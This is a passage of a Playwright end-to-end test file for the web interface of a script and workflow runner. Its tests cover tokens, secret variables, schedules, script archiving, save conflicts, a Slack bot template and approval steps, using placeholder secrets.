  // The route can be tried before its URL goes into Slack.
  await page.getByRole("button", { name: "Send a signed test request" }).click();
  const tried = page.getByTestId("route-test-result");
  await tried.filter({ hasText: "the secret and the check work" }).waitFor({ timeout: 15000 });
  assert.match(await tried.textContent(), /millrun ran \/millrun-test a test from millrun: on it!/);
  // Try it starts from the script's own parameters.
  assert.match(await page.getByTestId("curl-snippet").textContent(), /\{"command":"","text":"","user_name":""\}/);
  await shot("24-slack-route-offered");
});

test("a syntax error is shown with its line on save, and saving anyway is a choice", async () => {
  await page.goto(`${base}/#/scripts/new`);
  await page.locator(".cm-content").waitFor();
  const prefix = await page.locator("#path").inputValue();
  await page.locator("#path").fill(prefix + "broken");
  await page.locator(".cm-content").click();
  await page.keyboard.press("Control+a");
  await page.keyboard.type("def main():\n    return (1,\n");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  const problem = page.getByTestId("syntax-error");
  await problem.waitFor();
  assert.match(await problem.textContent(), /Line 2: .*never closed.*not saved/);
  assert.equal(await page.getByTestId("sync-path-url").count(), 0, "nothing was saved");
  await shot("25-syntax-error");
  await problem.getByRole("button", { name: "Save anyway" }).click();
  await page.getByTestId("sync-path-url").waitFor();
});

test("a new token is scoped to one script by default; full access warns; this browser's session is marked", async () => {
  await page.goto(`${base}/#/tokens`);
  await page.getByTestId("current-session").waitFor();
  const picker = page.getByRole("combobox", { name: "Script or flow the token may run" });
  assert.match(await picker.inputValue(), /^jobs:run:(scripts|flows):u\//, "scoped to a script by default");
  await page.getByRole("textbox", { name: "Label" }).fill("e2e scoped");
  await page.getByRole("button", { name: "Create", exact: true }).click();
  await page.getByTestId("new-token").waitFor();
  const row = page.getByTestId("token-row").filter({ hasText: "e2e scoped" });
  assert.match(await row.textContent(), /jobs:run:/);
  // A failed attempt does not leave the earlier secret on screen.
  await page.getByRole("textbox", { name: "Expires in days" }).fill("-3");
  await page.getByRole("button", { name: "Create", exact: true }).click();
  await page.getByRole("alert").waitFor();
  assert.equal(await page.getByTestId("new-token").count(), 0);
  await page.getByRole("textbox", { name: "Expires in days" }).fill("");
  await page.getByRole("radio", { name: "Full access" }).check();
  await page.getByTestId("full-access-warning").waitFor();
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.dismiss();
  });
  await page.getByTestId("token-row").filter({ has: page.getByTestId("current-session") }).getByRole("button", { name: "Revoke" }).click();
  await page.waitForTimeout(200);
  assert.match(asked, /this browser's session: revoking it logs you out/);
  await shot("26-tokens");
});

test("a script's timeout is set in its editor and kept", async () => {
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  await page.locator("#timeout").fill("30");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await page.getByTestId("saved-hash").waitFor();
  await page.reload();
  await page.getByTestId("sync-path-url").waitFor();
  assert.equal(await page.locator("#timeout").inputValue(), "30");
});

test("Requests say why an accepted call failed, filter as you type, and show the answer", async () => {
  await page.goto(`${base}/#/requests`);
  await page.getByTestId("request-row").first().waitFor();
  const res = await fetch(syncUrl, { method: "POST", headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` }, body: "{not json" });
  assert.equal(res.status, 400);
  const row = page.getByTestId("request-row").filter({ hasText: "400" }).first();
  await row.waitFor();
  assert.match(await row.textContent(), /JSON/, "the row gives the reason, not just 'passed'");
  await page.getByRole("textbox", { name: "Filter by URL or route" }).fill("no_such_thing_xyz");
  await page.getByText("No requests match the filter.").waitFor(); // applied without Enter
  await page.getByRole("textbox", { name: "Filter by URL or route" }).fill("hello_e2e");
  await row.waitFor();
  await row.click();
  await page.getByTestId("request-response").waitFor();
  assert.match(await page.getByTestId("request-response").textContent(), /JSON/);
  await shot("27-request-400");
});

test("a secret variable is made on the Variables page, never shown again, and kept when edited without a new value", async () => {
  await page.goto(`${base}/#/variables`);
  await page.getByText("No variables yet.").waitFor();
  const prefix = await page.locator("#var-path").inputValue();
  await page.locator("#var-path").fill(prefix + "slack_token");
  await page.locator("#var-value").fill("xoxb-e2e-secret-9");
  await page.locator("#var-desc").fill("the Slack bot's token");
  await page.getByRole("button", { name: "Create" }).click();
  const row = page.getByTestId("variable-row").first();
  await row.waitFor();
  assert.ok(!(await page.content()).includes("xoxb-e2e-secret-9"), "the secret is shown after saving");
  assert.match(await row.textContent(), /secret/);
  await row.getByRole("button", { name: `Copy the Python call for ${prefix}slack_token` }).waitFor();
  await row.getByRole("button", { name: "Edit" }).click();
  await page.locator("#var-desc").fill("Slack bot token (edited)");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByTestId("variable-row").filter({ hasText: "(edited)" }).waitFor();
  const value = await page.evaluate(async (p) => (await fetch(`/api/w/local/variables/get_value/${p}`)).json(), prefix + "slack_token");
  assert.equal(value, "xoxb-e2e-secret-9", "editing without a value kept the secret");
  await shot("28-variables");
});

test("deleting a script says what points at it, then removes it", async () => {
  await page.goto(`${base}/#/scripts`);
  const link = page.getByRole("link", { name: /slack_cmd$/ });
  await link.click();
  await page.getByTestId("sync-path-url").waitFor();
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.accept();
  });
  await page.getByRole("button", { name: "Delete script" }).click();
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  assert.match(asked, /Routes that run it will answer 404 until you delete them: \/api\/r\/slack\/slack_cmd/);
  assert.equal(await page.getByRole("link", { name: /slack_cmd$/ }).count(), 0);
});

test("a save after the script changed elsewhere is refused in words; archiving hides it until restored", async () => {
  await page.goto(`${base}/#/scripts/new`);
  const path = page.locator("#path");
  const full = (await path.inputValue()) + "archive_me";
  await path.fill(full);
  await page.locator(".cm-content").waitFor();
  await page.keyboard.press("Control+s");
  await page.getByTestId("sync-path-url").waitFor();
  // Another editor (the wmill CLI, another tab) saves a new version meanwhile.
  const other = await page.evaluate(async (p) => {
    const cur = await (await fetch(`/api/w/local/scripts/get/p/${p}`)).json();
    const r = await fetch("/api/w/local/scripts/create", { method: "POST", headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ path: p, language: cur.language, content: cur.content + "\n# changed elsewhere\n", parent_hash: cur.hash }) });
    return r.status;
  }, full);
  assert.equal(other, 201);
  await page.locator(".cm-content").click();
  await page.keyboard.press("Control+End");
  await page.keyboard.type("\n# my edit\n");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await page.getByText(/changed elsewhere .* since you opened it/).waitFor();
  await shot("40-save-conflict");

  page.once("dialog", (d) => d.accept()); // leaving the unsaved edit
  await page.reload();
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.accept();
  });
  await page.getByRole("button", { name: "Archive", exact: true }).click();
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  assert.match(asked, /URLs pinned to a version \(by hash\) keep running/);
  assert.equal(await page.getByRole("link", { name: new RegExp(`${full}$`) }).count(), 0);
  const archived = page.getByTestId("archived-scripts");
  await archived.locator("summary").click();
  await shot("41-archived");
  await archived.getByRole("button", { name: `Restore ${full}` }).click();
  await page.getByRole("link", { name: new RegExp(`${full}$`) }).waitFor();
  assert.equal(await page.getByTestId("archived-scripts").count(), 0);
});

test("a schedule made on a script's page runs every 2 seconds, reads in words and shows its runs", async () => {
  await page.goto(`${base}/#/scripts/new`);
  const path = page.locator("#path");
  const full = (await path.inputValue()) + "ticker";
  await path.fill(full);
  await page.locator(".cm-content").waitFor();
  await page.keyboard.press("Control+s");
  await page.getByTestId("sync-path-url").waitFor();
  await page.getByRole("button", { name: "Add a schedule" }).click();
  await page.getByTestId("schedule-words").waitFor();
  assert.match(await page.getByTestId("schedule-words").textContent(), /every day at 08:00 in /);
  assert.equal(await page.getByTestId("schedule-next").locator("li").count(), 5);
  await page.locator("#sched-cron").fill("0 0 25 * * *");
  await page.getByTestId("schedule-explain-error").waitFor();
  assert.match(await page.getByTestId("schedule-explain-error").textContent(), /above maximum/);
  await page.locator("#sched-cron").fill("*/2 * * * * *");
  await page.getByText("every 2 seconds").waitFor();
  await shot("42-schedule-form");
  // The form at 900 px in dark mode: nothing cut off.
  await page.setViewportSize({ width: 900, height: 700 });
  await page.emulateMedia({ colorScheme: "dark" });
  const cut = await page.evaluate(() => [...document.querySelectorAll("section[aria-label=Schedules] button, section[aria-label=Schedules] input, section[aria-label=Schedules] select")]
    .filter((b) => b.offsetParent !== null && b.getBoundingClientRect().right > window.innerWidth + 0.5).map((b) => b.id || b.textContent.trim()));
  assert.deepEqual(cut, [], "schedule form controls cut off at 900px");
  await shot("42b-schedule-form-900-dark");
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.getByRole("button", { name: "Save schedule" }).click();
  await page.getByTestId("schedule").waitFor();
  await page.getByTestId("schedule").getByRole("link", { name: "Its runs" }).click();
  await page.getByTestId("runs-schedule-filter").waitFor();
  const rows = page.locator("tbody tr", { hasText: full });
  await page.waitForFunction((n) => document.querySelectorAll("tbody tr").length >= n, 3, { timeout: 15000 });
  assert.ok(await rows.count() >= 3, "three runs of the schedule");
  assert.match(await rows.first().textContent(), /schedule/);
  await shot("43-schedule-runs");
  await page.goto(`${base}/#/schedules`);
  const row = page.getByTestId("schedule-row").filter({ hasText: full });
  await row.waitFor();
  assert.match(await row.textContent(), /every 2 seconds/);
  await row.getByRole("checkbox").uncheck(); // stop it: other journeys count runs
  await page.waitForFunction(() => document.querySelector('[data-testid="schedule-row"]')?.textContent?.includes("off"));
  await shot("44-schedules");
  // Edited on the script's page: the missed-run policy changes, it stays off.
  await page.goto(`${base}/#/scripts/${full}`);
  await page.getByRole("button", { name: `Edit schedule ${full}_schedule` }).click();
  await page.locator("#sched-missed").selectOption("run_once");
  await page.getByRole("button", { name: "Save schedule" }).click();
  await page.getByTestId("schedule").getByText("missed runs: once on waking").waitFor();
  assert.match(await page.getByTestId("schedule").textContent(), /Off: starts nothing/);
});

test("the Slack bot template reads its token from a secret variable, and says what to do when there is none", async () => {
  await page.goto(`${base}/#/scripts/new`);
  await page.locator(".cm-content").waitFor();
  const prefix = await page.locator("#path").inputValue();
  const user = prefix.split("/")[1];
  await page.locator("#path").fill(prefix + "slack_bot");
  await page.locator("#tpl").selectOption("slack-bot");
  await page.locator(".cm-content", { hasText: `u/${user}/slack_bot_token` }).waitFor();
  await page.keyboard.press("Control+s");
  await page.getByTestId("sync-path-url").waitFor();
  const run = page.locator("section.panel[aria-label=Run]");
  await run.locator("#arg-dry_run").selectOption("true");
  await run.getByRole("button", { name: "Run" }).click();
  await run.getByTestId("run-status").filter({ hasText: "failure" }).waitFor({ timeout: 15000 });
  assert.match(await run.getByTestId("run-result").textContent(), /add your bot token on the Variables page/);
  // The token goes in as a secret on the Variables page.
  await page.goto(`${base}/#/variables`);
  await page.locator("#var-path").fill(`u/${user}/slack_bot_token`);
  await page.locator("#var-value").fill("xoxb-e2e-token-9f3a");
  await page.getByLabel(/Secret: never shown again/).check();
  await page.getByRole("button", { name: "Create", exact: true }).click();
  await page.getByText(`u/${user}/slack_bot_token`).first().waitFor();
  await page.goto(`${base}/#/scripts/${prefix}slack_bot`);
  await run.locator("#arg-dry_run").selectOption("true");
  await run.getByRole("button", { name: "Run" }).click();
  await run.getByTestId("run-status").filter({ hasText: "success" }).waitFor({ timeout: 15000 });
  assert.match(await run.getByTestId("run-result").textContent(), /"token_ends_with": "9f3a"/);
});

test("a flow waiting for an approval shows the wait on its run page, and Approve lets it go on", async () => {
  await page.goto(`${base}/#/runs`);
  // Made through the API with the page's session: the flow editor is not what this checks.
  const id = await page.evaluate(async () => {
    const post = async (path, body) => {
      const r = await fetch(path, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
      if (!r.ok) throw new Error(`${path}: ${r.status} ${await r.text()}`);
      return (await r.text()).trim();
    };
    const step = (id, content, extra = {}) => ({ id, value: { type: "rawscript", language: "bash", content, input_transforms: {} }, ...extra });
    await post("/api/w/local/flows/create", { path: "u/e2e/approve_e2e", summary: "", description: "", value: { modules: [
      step("ask", "echo asking\n", { suspend: { required_events: 1, timeout: 600 } }), step("act", "echo approved\n")] } });
    return post("/api/w/local/jobs/run/f/u/e2e/approve_e2e", {});
  });
  await page.goto(`${base}/#/runs/${id}`);
  const box = page.getByTestId("approval-box");
  await box.waitFor({ timeout: 15000 });
  assert.match(await box.textContent(), /Step ask waits for 1 approval: 0 of 1 so far, until/);
  await shot("24-approval-wait");
  await box.getByTestId("approve").click();
  await page.getByTestId("detail-status").filter({ hasText: "success" }).waitFor({ timeout: 15000 });
  assert.equal(await page.getByTestId("approval-box").count(), 0);
  assert.match(await page.getByTestId("detail-result").textContent(), /approved/);
});
